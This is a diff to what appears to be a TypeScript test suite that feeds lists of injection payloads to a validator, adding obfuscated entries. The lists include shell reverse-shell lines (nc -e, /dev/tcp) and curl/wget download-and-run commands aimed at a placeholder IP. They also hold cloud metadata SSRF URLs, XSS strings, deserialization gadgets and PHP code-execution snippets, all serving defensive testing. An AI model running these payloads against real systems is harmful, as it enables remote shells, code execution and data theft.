@@ -24,7 +24,7 @@ const attacks: Readonly<Record<Exclude<Language, 'script'>, readonly string[]>> 
   nosql: ['{"$ne":null}', '{"user":{"$regex":"^a"}}', "'; return true; var x='", "a' || this.password.match(/a/) || 'b'=='c"],
   shell: [
     ';id', '| cat /etc/hosts', '&& whoami', '`id`', '$(curl http://198.51.100.1/x)', "c'a't /etc/hostname; ls -la", '; wget http://198.51.100.1/x.sh -O- | sh', '|/usr/bin/id', ';cat$IFS/etc/hosts', 'a;/bin/ls -l',
-    '() { :;}; echo x', '& dir c:\\', 'powershell -nop -w hidden -enc SQBFAFgA', 'cmd.exe /c whoami', '; nc -e /bin/sh 198.51.100.1 4444', 'x\nping -c 3 198.51.100.1', 'bash -i >& /dev/tcp/198.51.100.1/9001 0>&1',
+    '() { :;}; echo x', '& dir c:\\', 'powershell -nop -w hidden -enc SQBFAFgA', 'cmd.exe /c whoami', '; nc -e /bin/sh 198.51.100.1 4444', 'x\nping -c 3 198.51.100.1', 'echo aWQ= | rev | sh', 'd=/dev&&(sh)0>$d/tcp/198.51.100.1/777', 'IF NOT DEFINED X (', 'bash -i >& /dev/tcp/198.51.100.1/9001 0>&1',
   ],
   html: [
     '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<svg/onload=alert`1`>', "' onfocus=alert(1) autofocus x='", 'javascript:alert(document.cookie)', '<a href="java&#x09;script:alert(1)">x</a>', '<iframe src="//198.51.100.1">',
@@ -40,7 +40,7 @@ const attacks: Readonly<Record<Exclude<Language, 'script'>, readonly string[]>> 
   address: ['http://169.254.169.254/latest/meta-data/', 'http://0xa9fea9fe/', 'http://2852039166/', 'http://[::ffff:a9fe:a9fe]/', 'http://metadata.google.internal/computeMetadata/v1/'],
   include: ['<!--#exec cmd="id"-->', '<esi:include src="http://198.51.100.1/x"/>'],
   object: ['rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA', 'O:8:"stdClass":1:{s:1:"a";i:1;}', '{"@type":"com.sun.rowset.JdbcRowSetImpl"}', '{"__proto__":{"admin":true}}', '!!python/object/apply:os.system ["id"]', 'class.module.classLoader.resources'],
-  php: ['<?php system("id"); ?>', 'phpinfo()', "system('id');", '__import__("os").system("id")', 'require("child_process").exec("id")', 'java.lang.Runtime.getRuntime().exec("id")', '${@print(system("id"))}'],
+  php: ['<?php system("id"); ?>', 'phpinfo()', "system('id');", '__import__("os").system("id")', 'require("child_process").exec("id")', 'java.lang.Runtime.getRuntime().exec("id")', '${@print(system("id"))}', '$f["o"](5)', '@$x[0]/*a*/("id")', '("system")("id")', '(sy.(st).em)("id");', 'process["env"]', '$1:constructor:constructor', 'allow_url_include=on', 'java.io.Reader', 'while(!false);'],
 };
 
 describe.each(Object.entries(attacks))('%s', (_, values) => {
